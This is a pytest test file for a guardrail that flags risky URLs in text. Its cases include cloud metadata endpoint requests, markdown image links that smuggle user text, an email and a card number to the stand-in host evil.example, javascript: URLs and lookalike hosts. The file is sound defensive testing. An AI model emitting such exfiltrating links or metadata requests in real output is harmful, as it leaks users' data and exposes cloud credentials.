"""The rules about URLs."""

import time

import pytest

from guardrails.check import Match, Run
from guardrails.conformance.pace import assert_quick
from guardrails.decoding import ConfigError
from guardrails.view import AS_IT_IS_READ
from tests.guardrails.checks.finding import built, found


def _rules(config: dict[str, object], text: str) -> list[str]:
    return [rule for rule, _ in found(built("urls", config), text)]


def test_a_match_covers_the_url_alone() -> None:
    check = built("urls", {"deny": ["evil.example"]})
    text = "é ![a b](https://evil.example/i.png) and https://evil.example."
    assert check.find(Run(text)) == [Match("denied_host", 9, 35), Match("denied_host", 41, 61)]
    assert check.redactable
    assert check.views == AS_IT_IS_READ


def test_hosts_that_are_denied_are_found_however_they_are_named() -> None:
    text = r"https://good@x.EVIL.example http:\\evil.example [a](//evil.example) https://notevil.example"
    assert _rules({"deny": ["evil.example"]}, text) == ["denied_host"] * 3


def test_with_a_list_of_what_is_allowed_all_else_is_found() -> None:
    config: dict[str, object] = {"allow": ["example.com"]}
    assert _rules(config, "https://www.example.com ftp://example.com mailto:x@y.z [a](b)") == []
    assert _rules(config, "https://example.com.evil.example http://10.0.0.1") == ["unlisted_host"] * 2
    assert _rules({"allow": []}, "https://example.com") == ["unlisted_host"]


def test_a_denied_host_below_an_allowed_one_is_denied() -> None:
    assert _rules({"allow": ["a.example"], "deny": ["b.a.example"]}, "//x https://b.a.example") == [
        "denied_host"
    ]


def test_images_may_have_a_list_of_their_own() -> None:
    config: dict[str, object] = {"images": ["cdn.example"]}
    assert _rules(config, "![a](https://cdn.example/1) [b](https://b.example)") == []
    assert _rules(config, "![a](https://b.example/1) <img src='//b.example'>") == ["unlisted_image"] * 2


def test_schemes_may_be_listed() -> None:
    assert _rules({"schemes": ["HTTPS"]}, "https://a.example http://a.example ftp://a.example") == [
        "denied_scheme",
        "denied_scheme",
    ]


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("ask http://169.254.169.254/latest/meta-data", "private_host"),
        ("ask //169.254.169.254/latest/meta-data", "private_host"),
        ("//[::1]:80/x", "private_host"),
        ("(//metadata.google.internal/x)", "private_host"),
        ("curl http:169.254.169.254/x", "private_host"),
        ("curl http:/metadata.google.internal/x", "private_host"),
        ("http:0xa9fea9fe/x", "private_host"),
        ("![a](https://evil.example/?q=the+user+said+hello+there)", "exfiltration"),
        ("![a](https://evil.example/?d=anna.keller@example.com)", "exfiltration"),
        ("![a][1]\n\n[1]: https://evil.example/?d=4111111111111111", "exfiltration"),
        ("[a](javascript:alert(1))", "script_url"),
        ("[a](JaVaScRiPt&colon;alert(1))", "script_url"),
        ("<img src=data:image/svg+xml;base64,PHN2Zz4=>", "data_url"),
        ("https://good.example@evil.example", "userinfo"),
        ("https://g\u043e\u043egle.com", "lookalike_host"),
    ],
)
def test_a_rule_without_a_list_is_asked_unless_others_are(text: str, rule: str) -> None:
    assert _rules({}, text) == [rule]
    assert _rules({"rules": [rule]}, text) == [rule]
    assert _rules({"rules": []}, text) == []
    assert _rules({"deny": ["other.example"]}, text) == []
    assert _rules({"deny": ["other.example"], "rules": [rule]}, text) == [rule]


def test_what_is_allowed_may_carry_data_and_be_private() -> None:
    config: dict[str, object] = {"allow": ["10.0.0.1"], "rules": ["private_host", "exfiltration"]}
    assert _rules(config, "![a](http://10.0.0.1/?q=the+user+said+hello+there)") == []


@pytest.mark.parametrize(
    "text",
    [
        "Read https://docs.python.org/3/library/re.html#module-re or https://github.com/a/b/pull/5.",
        "![logo](https://cdn.example.com/a.png?w=200) [docs](https://example.com/a_(b)) git@github.com:a/b",
        "ssh://git@github.com/a/b data: none; data:text/html,x is one; a//b // comment",
        "7 //2 //1.5 //10.2 //localhosts //todo.fix //2024 http: https:// see http:foo and //a.internals",
        "![a](https://cdn.example/a@2x.png?v=1700000000000&u=b@2x.png&id=1234567890123456)",
        "https://пример.рф https://例え.jp https://münchen.de",
    ],
)
def test_plain_urls_break_no_rule(text: str) -> None:
    assert _rules({}, text) == []


def test_hosts_without_a_scheme_count_if_asked_to() -> None:
    text = "evil.example, www.a.example, b.example/x, node.js, jane@evil.example, 1.5, e.g."
    assert _rules({"deny": ["evil.example"]}, text) == []
    assert found(built("urls", {"deny": ["evil.example"], "bare_hosts": True}), text) == [
        ("denied_host", "evil.example")
    ]
    assert found(built("urls", {"allow": [], "bare_hosts": True}), text) == [
        ("unlisted_host", "www.a.example"),
        ("unlisted_host", "b.example/x"),
    ]


@pytest.mark.parametrize("name", ["deny", "allow", "images"])
def test_an_entry_that_is_no_host_is_refused_with_its_place(name: str) -> None:
    with pytest.raises(ConfigError, match=r"https://example\.com:8443") as raised:
        built("urls", {name: ["a.example", "b.example/x"]})
    assert raised.value.path == f"guardrails.any.checks[0].urls.{name}[1]"


@pytest.mark.parametrize(
    "unit",
    [
        *(
            "http://",
            "http://a.example/ ",
            "![",
            "[",
            "](",
            "![a](//b)",
            "!",
            "//",
            "\\",
            "src=",
            "src= ",
            "url(",
        ),
        *(
            "a.",
            "a.b/ ",
            "]: ",
            "data:a/b,",
            "http://a)",
            "http://a" + ")" * 50,
            "&#",
            "例",
            "//例",
            "@",
            "%",
            "=&",
        ),
        *("?q=YWJj", "x" * 99 + "/", "[](//a?q=" + "ab" * 20 + ")"),
    ],
)
def test_no_text_makes_it_slow(unit: str) -> None:
    check = built("urls", {"rules": ["private_host", "exfiltration", "lookalike_host"], "bare_hosts": True})
    assert_quick(check, unit)
    began = time.process_time()
    check.find(Run("![a](https://a.example/" + unit * (100_000 // len(unit))))
    assert time.process_time() - began < 2.0
